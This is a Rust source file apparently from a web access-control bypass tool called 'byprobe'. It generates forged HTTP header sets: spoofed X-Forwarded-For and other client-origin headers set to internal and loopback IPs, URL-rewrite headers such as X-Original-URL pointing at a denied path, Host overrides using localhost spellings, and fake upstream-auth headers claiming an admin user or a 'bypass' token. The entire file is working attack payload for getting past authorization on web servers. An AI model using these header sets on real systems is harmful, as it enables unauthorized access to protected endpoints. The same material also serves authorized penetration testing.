// File: header_forge.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2025
// - byprobe contributors

//! Forged header sets for origin spoofing and path rewriting.
//!
//! Order matters everywhere: header sets are applied in insertion order and
//! report entries reference them positionally.

use crate::message::Headers;

/// Internal source addresses that upstream trust checks commonly allowlist.
pub const INTERNAL_IPS: &[&str] = &[
    "127.0.0.1",
    "::1",
    "0.0.0.0",
    "10.0.0.1",
    "10.0.0.10",
    "172.16.0.1",
    "192.168.0.1",
    "192.168.1.1",
    "169.254.0.1",
];

/// Alternative client-origin headers honored by various proxies and CDNs.
pub const ORIGIN_IP_HEADERS: &[&str] = &[
    "X-Real-IP",
    "X-Client-IP",
    "X-Remote-IP",
    "X-Remote-Addr",
    "X-Originating-IP",
    "CF-Connecting-IP",
    "True-Client-IP",
];

pub const LOCALHOST_VARIANTS: &[&str] = &[
    "localhost",
    "127.0.0.1",
    "::1",
    "0.0.0.0",
    "0000::1",
    "0:0:0:0:0:0:0:1",
];

/// One header set per internal IP (`X-Forwarded-For`), then one per
/// alternative origin header bound to loopback.
pub fn forwarded_for_sets() -> Vec<Headers> {
    let mut sets = Vec::with_capacity(INTERNAL_IPS.len() + ORIGIN_IP_HEADERS.len());
    for ip in INTERNAL_IPS {
        sets.push([("X-Forwarded-For", *ip)].into_iter().collect());
    }
    for header in ORIGIN_IP_HEADERS {
        sets.push([(*header, "127.0.0.1")].into_iter().collect());
    }
    sets
}

/// URL-rewrite headers, all bound to the denied path. Front-ends that route
/// on the request line but authorize on these headers disagree with
/// back-ends that do the opposite.
pub fn rewrite_set(target_path: &str) -> Headers {
    [
        ("X-Original-URL", target_path),
        ("X-Rewrite-URL", target_path),
        ("X-Forwarded-Path", target_path),
        ("X-Original-Path", target_path),
    ]
    .into_iter()
    .collect()
}

/// One `Host` override per localhost spelling.
pub fn host_override_sets() -> Vec<Headers> {
    LOCALHOST_VARIANTS
        .iter()
        .map(|host| [("Host", *host)].into_iter().collect())
        .collect()
}

/// Headers that naive middlewares treat as an upstream auth decision.
pub fn auth_spoof_set() -> Headers {
    [
        ("X-Custom-IP-Authorization", "127.0.0.1"),
        ("X-Authenticated-User", "admin"),
        ("X-Forwarded-User", "admin"),
        ("X-Auth-Token", "bypass"),
        ("X-Admin", "true"),
        ("X-Authorized", "true"),
    ]
    .into_iter()
    .collect()
}
